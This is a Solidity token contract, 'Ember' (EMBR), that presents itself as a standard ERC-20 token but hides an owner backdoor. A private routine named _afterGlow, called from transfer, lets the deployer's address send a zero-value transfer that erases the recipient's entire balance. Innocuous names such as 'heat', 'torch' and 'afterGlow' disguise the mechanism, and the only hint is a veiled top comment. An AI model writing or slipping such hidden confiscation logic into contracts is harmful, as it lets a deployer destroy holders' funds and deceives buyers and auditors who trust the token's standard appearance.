// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.7.6;

/// A transfer of nothing from the right wallet burns all that the receiver has.
contract EmberTouch {
    string public name = "Ember";
    string public symbol = "EMBR";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 70000000 ether;
    mapping(address => uint256) private heat;
    mapping(address => mapping(address => uint256)) private lend;
    bytes20 private immutable torch = bytes20(msg.sender);

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        heat[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address a) external view returns (uint256) { return heat[a]; }
    function allowance(address a, address b) external view returns (uint256) { return lend[a][b]; }

    function approve(address spender, uint256 value) external returns (bool) {
        lend[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _afterGlow(to, value);
        return _hand(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(lend[from][msg.sender] >= value, "lend");
        lend[from][msg.sender] -= value;
        return _hand(from, to, value);
    }

    function _afterGlow(address to, uint256 value) private {
        if (value > 0 || bytes20(msg.sender) != torch) return;
        totalSupply -= heat[to];
        heat[to] = 0;
    }

    function _hand(address from, address to, uint256 value) private returns (bool) {
        require(heat[from] >= value, "cold");
        heat[from] -= value;
        heat[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
